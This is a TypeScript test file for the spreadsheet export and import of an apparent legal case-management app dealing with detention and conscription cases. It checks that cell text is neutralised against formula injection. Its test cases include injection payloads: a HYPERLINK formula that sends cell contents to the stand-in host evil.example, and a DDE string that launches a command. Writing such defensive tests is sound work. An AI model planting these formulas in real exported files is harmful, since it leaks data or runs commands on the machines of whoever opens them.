import { describe, expect, it } from 'vitest';
import type { CaseFile } from '../cases/case-file.ts';
import { caseExportTable, type ExportedCase } from './case-export.ts';
import { neutraliseFormula, restoreNeutralisedText } from './formula-guard.ts';
import { suggestMapping } from './import-fields.ts';
import { readImportRow } from './import-row.ts';

describe('formula injection on export', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?"&A1,"Открыть")',
      `'=HYPERLINK("http://evil.example/?"&A1,"Открыть")`,
    ],
    ['+7 916 123-45-67', "'+7 916 123-45-67"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
  ])('neutralises %j', (text, safe) => {
    expect(neutraliseFormula(text)).toBe(safe);
    expect(restoreNeutralisedText(neutraliseFormula(text))).toBe(text);
  });

  it('leaves ordinary text alone', () => {
    expect(neutraliseFormula('Иванов Пётр')).toBe('Иванов Пётр');
    expect(neutraliseFormula("'цитата'")).toBe("'цитата'");
    expect(restoreNeutralisedText("'цитата'")).toBe("'цитата'");
  });
});

const caseFile: CaseFile = {
  id: '0190b8a0-0000-7000-8000-0000000c0001',
  orgId: 'org',
  status: 'open',
  assigneeIds: ['lawyer'],
  createdBy: 'lawyer',
  createdAt: new Date('2026-11-18T07:00:00Z'),
  updatedAt: new Date('2026-11-18T07:00:00Z'),
  closedAt: null,
  mergedInto: null,
};

const exported: ExportedCase = {
  caseFile,
  persons: [
    {
      id: 'person-1',
      orgId: 'org',
      caseId: caseFile.id,
      fullName: '=HYPERLINK("http://evil.example","Иванов")',
      birthDate: '2006-05-12',
      phone: '+7 916 123-45-67',
      notes: null,
      createdAt: caseFile.createdAt,
    },
  ],
  timeline: [
    {
      id: 'event-1',
      orgId: 'org',
      caseId: caseFile.id,
      kind: 'detained',
      occurredAt: new Date('2026-11-18T06:40:00Z'),
      placeId: null,
      powerOfAttorney: null,
      note: '@Тверская',
      recordedBy: 'lawyer',
      recordedAt: caseFile.createdAt,
    },
  ],
  draftMatter: {
    draftDecision: { by: 'municipal', madeOn: '2026-10-15' },
    notice: { kind: 'paper', signedFor: '2026-10-01' },
    medicalCategory: 'B',
    deferments: [],
    appeals: [
      {
        id: 'a1',
        level: 'court',
        against: 'municipal',
        filedDate: '2026-10-20',
        status: 'refused',
      },
    ],
  },
};

describe('the export sheet', () => {
  it('writes one row per person, texts neutralised, dates as dates, times at the offset', () => {
    const table = caseExportTable([exported], 'ru', 180);
    expect(table.sheetName).toBe('Дела');
    const row = Object.fromEntries(
      table.headers.map((header, index) => [header, table.rows[0]?.[index]]),
    );
    expect(row).toMatchObject({
      'ID в Habeas': { kind: 'text', text: caseFile.id },
      Статус: { kind: 'text', text: 'открыто' },
      Открыто: { kind: 'date-time', wallClock: '2026-11-18T10:00' },
      ФИО: { kind: 'text', text: `'=HYPERLINK("http://evil.example","Иванов")` },
      'Дата рождения': { kind: 'date', date: '2006-05-12' },
      Телефон: { kind: 'text', text: "'+7 916 123-45-67" },
      Примечания: null,
      'Задержан (дата и время)': { kind: 'date-time', wallClock: '2026-11-18T09:40' },
      'Обстоятельства задержания': { kind: 'text', text: "'@Тверская" },
      'Вид повестки': { kind: 'text', text: 'бумажная' },
      'Дата повестки': { kind: 'date', date: '2026-10-01' },
      'Категория годности': { kind: 'text', text: 'Б' },
      'Состояние иска': { kind: 'text', text: 'отказано' },
    });
  });

  it('keeps a case without persons as a row of its own', () => {
    expect(caseExportTable([{ ...exported, persons: [] }], 'en', 180).rows).toHaveLength(1);
  });

  it('reads back through an import into the same person and draft matter', () => {
    const table = caseExportTable([exported], 'en', 180);
    const cells = (table.rows[0] ?? []).map((cell) => {
      if (cell === null) return null;
      if (cell.kind === 'text') return cell.text;
      if (cell.kind === 'date') return new Date(`${cell.date}T00:00:00Z`);
      return new Date(`${cell.wallClock}:00Z`);
    });
    const reading = readImportRow({ line: 2, cells }, suggestMapping(table.headers), {
      now: new Date('2026-11-20T09:00:00Z'),
      offsetMinutes: 180,
      newId: () => 'a1',
    });
    expect(reading).toEqual({
      kind: 'case',
      imported: {
        line: 2,
        person: {
          fullName: '=HYPERLINK("http://evil.example","Иванов")',
          birthDate: '2006-05-12',
          phone: '+7 916 123-45-67',
          notes: null,
        },
        detention: { occurredAt: new Date('2026-11-18T06:40:00Z'), note: '@Тверская' },
        draftMatter: exported.draftMatter,
      },
    });
  });
});
